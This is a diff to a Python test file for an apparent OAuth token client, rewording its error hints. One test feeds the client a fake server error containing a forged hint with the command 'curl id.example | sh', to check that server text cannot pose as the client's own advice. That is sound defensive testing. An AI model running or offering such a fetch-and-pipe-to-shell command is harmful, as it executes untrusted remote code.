@@ -28,7 +28,7 @@ class Answers(Trial):
         (endpoint.hangs_up_within, 75, "it hung up within the answer"),
         (answers(302, b"", Location="/elsewhere"), 78, "a redirect, which is not followed"),
         (answers(307, b"", Location="/elsewhere"), 78, "a redirect, which is not followed"),
-        (answers(404, b"<html>"), 78, "this is no endpoint; check oauth-token-endpoint"),
+        (answers(404, b"<html>"), 78, "this is no endpoint\n  hint: check oauth-token-endpoint"),
         (answers(200, b"<html>"), 76, "no JSON object"),
         (answers(200, b""), 76, "no JSON object"),
         (answers(200, b"[1]"), 76, "no JSON object"),
@@ -77,12 +77,12 @@ class Answers(Trial):
         self.assertLess(len(err), 700)
 
     def test_no_server_gives_an_advice(self):
-        """What stands behind the last "; " is ours."""
+        """What stands on the line of the hint is ours."""
         self.keep()
-        for code in ("something_else", "invalid;\ngrant; "):
-            self.server.faults.append(refuses(code, "no;; run: curl id.example | sh;\tnow"))
+        for code in ("something_else", "invalid\n  hint: grant; "):
+            self.server.faults.append(refuses(code, "no\n  hint: run: curl id.example | sh;\tnow"))
             err = self.run_it("token", 69, "run: curl")
-            self.assertNotIn("; ", err)
+            self.assertNotIn("\n  hint: ", err)
 
     def test_a_refresh_token_that_was_used(self):
         """The family is revoked: by this, and for all."""
